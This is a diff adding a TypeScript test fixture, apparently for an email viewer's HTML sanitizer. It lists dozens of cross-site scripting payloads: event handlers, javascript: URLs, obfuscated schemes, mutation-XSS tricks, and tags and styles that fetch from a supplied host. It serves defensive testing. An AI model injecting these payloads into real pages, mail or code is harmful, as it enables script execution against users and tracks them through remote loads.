@@ -1,0 +1,102 @@
+/* What people have sent in mails to take over the program that shows them; every kind that is known, pointed at us. */
+
+const RUN = 'top.pwned=1;alert(document.domain)'
+
+/** HTML that would run something, or call `to`, if it were shown as it is. */
+export const hostileHtml = (to: string): string[] => [
+  // Scripts as they are, and in disguise.
+  `<script>${RUN}</script>`,
+  `<script src="${to}/script.js"></script>`,
+  `<SCRIPT/x>${RUN}</SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="${to}/svg.js"/></svg>`,
+  `<math><mtext><script>${RUN}</script></mtext></math>`,
+  `<template><script>${RUN}</script></template>`,
+  // Handlers.
+  `<img src=x onerror="${RUN}">`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src="x" \`onerror="${RUN}"\` onerror=${RUN}>`,
+  `<svg onload="${RUN}">`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<svg><set onbegin="${RUN}" attributeName=x>`,
+  `<body onload="${RUN}" onpageshow="${RUN}">`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<select autofocus onfocus="${RUN}"></select>`,
+  `<div contenteditable autofocus tabindex=1 onfocus="${RUN}">x</div>`,
+  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}"></audio>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<object data=x onerror="${RUN}"></object>`,
+  `<div style="animation-name:x" onanimationstart="${RUN}"></div><style>@keyframes x{}</style>`,
+  `<iframe onload="${RUN}"></iframe>`,
+  // Documents within the document.
+  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe src="${to}/frame"></iframe>`,
+  `<frameset><frame src="javascript:${RUN}"></frameset>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="${to}/object"></object>`,
+  `<embed src="${to}/embed">`,
+  `<portal src="${to}/portal"></portal>`,
+  `<fencedframe src="${to}/fenced"></fencedframe>`,
+  // Where the page goes, and what it is.
+  `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<base href="${to}/"><a href="x" autofocus>x</a><img src="base.png">`,
+  `<form action="${to}/form"><input name=a value=b><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
+  `<link rel="stylesheet" href="${to}/style.css">`,
+  `<link rel="prefetch" href="${to}/prefetch"><link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">`,
+  `<link rel="modulepreload" href="${to}/module.js"><link rel="icon" href="${to}/icon.png">`,
+  `<html manifest="${to}/manifest">`,
+  // Styles that fetch.
+  `<style>@import "${to}/import.css";</style>`,
+  `<style>@import url(${to}/import2.css);*{background:url(${to}/star.png)}</style>`,
+  `<style>@font-face{font-family:x;src:url(${to}/font.woff)}body{font-family:x}</style>x`,
+  `<div style="background:url(${to}/bg.png)">x</div>`,
+  `<div style="background-image:image-set(url(${to}/set.png) 1x)">x</div>`,
+  `<div style="--x:url(${to}/var.png);background:var(--x)">x</div>`,
+  `<div style="list-style-image:url(${to}/list.png);display:list-item">x</div>`,
+  `<div style="cursor:url(${to}/cursor.png),auto;border-image:url(${to}/border.png) 1;mask:url(${to}/mask.svg)">x</div>`,
+  `<div style="background:u\\72l(${to}/escaped.png)">x</div>`,
+  `<div style="width:expression(${RUN});behavior:url(${to}/b.htc);-moz-binding:url(${to}/x.xml#x)">x</div>`,
+  `<style></style><style>a{}</style/><img src=x onerror=${RUN}>`,
+  // Pictures and media that fetch.
+  `<img srcset="${to}/srcset.png 1x" src="${to}/src.png">`,
+  `<picture><source srcset="${to}/source.png"><img src="${to}/picture.png"></picture>`,
+  `<video poster="${to}/poster.png" src="${to}/video.mp4" autoplay></video><audio src="${to}/audio.mp3" autoplay></audio>`,
+  `<table background="${to}/table.png"><td background="${to}/td.png">x</td></table><body background="${to}/body.png">`,
+  `<input type="image" src="${to}/input.png">`,
+  `<svg><image href="${to}/svg.png"/><use href="${to}/use.svg#x"/><feImage href="${to}/fe.png"/></svg>`,
+  `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'&gt;#x"/></svg>`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${to}/inner.png'/></svg>">`,
+  `<bgsound src="${to}/bg.wav"><image src="${to}/image.png"><video><track src="${to}/track.vtt" default></video>`,
+  // Links, pressed below.
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href=" &#1;j&#x61;v&#97script:${RUN}">x</a>`,
+  `<a href="java\tscript:${RUN}">x</a><a href="data:text/html,<script>${RUN}</script>">x</a><a href="vbscript:x">x</a>`,
+  `<a href="#" ping="${to}/ping" target="_top" onclick="${RUN}">x</a><map><area href="javascript:${RUN}"></map>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg><math href="javascript:${RUN}">x</math>`,
+  // Trees that change between cleaning and showing.
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<textarea></textarea><img src=x onerror=${RUN}></textarea><title></title><img src=x onerror=${RUN}></title>`,
+  `<!--><img src=x onerror=${RUN}>--><![CDATA[<img src=x onerror=${RUN}>]]><?x <img src=x onerror=${RUN}>?>`,
+  `<xmp></xmp><img src=x onerror=${RUN}></xmp><plaintext></plaintext><img src=x onerror=${RUN}>`,
+  `</body></html></iframe></div><img src=x onerror=${RUN}><script>${RUN}</script>`,
+]
+
+/** Text that would be markup if anybody took it for that. */
+export const hostileText: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `"><svg onload=${RUN}>`,
+  `'-${RUN}-'`,
+  `</title></textarea></style><img src=x onerror=${RUN}>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `javascript:${RUN}`,
+  `&lt;img src=x onerror=${RUN}&gt;`,
+]
